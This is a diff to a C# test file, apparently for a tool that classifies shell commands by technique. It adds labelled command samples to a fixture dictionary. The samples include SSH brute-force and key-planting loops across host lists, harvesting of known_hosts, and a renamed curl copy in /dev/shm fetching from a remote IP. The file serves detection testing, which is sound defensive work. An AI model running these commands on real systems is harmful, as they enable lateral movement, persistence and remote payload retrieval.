@@ -128,6 +128,8 @@ namespace B64Hunt.Tests.Classification
             ["lateral-ssh-host-variable"] = "for h in $(cat /tmp/hosts); do sshpass -p Winter2024 ssh -o StrictHostKeyChecking=no root@$h 'id'; done",
             ["lateral-ssh-key-plant"] = "for h in $(cat hosts); do ssh $h \"echo ssh-ed25519 AAAAC3Nza x >> ~/.ssh/authorized_keys\"; done",
             ["lateral-host-harvest"] = "awk '{print $1}' ~/.ssh/known_hosts | sort -u",
+            ["exec-temp-binary"] = "cp /usr/bin/curl /dev/shm/.c && /dev/shm/.c -s http://198.51.100.7/a",
+            ["exec-temp-script"] = "bash /tmp/.s.sh",
             ["config-file-write"] = "printf 'daily\\nrotate 7\\ncompress\\n' > /etc/logrotate.d/shop-api",
         };
 
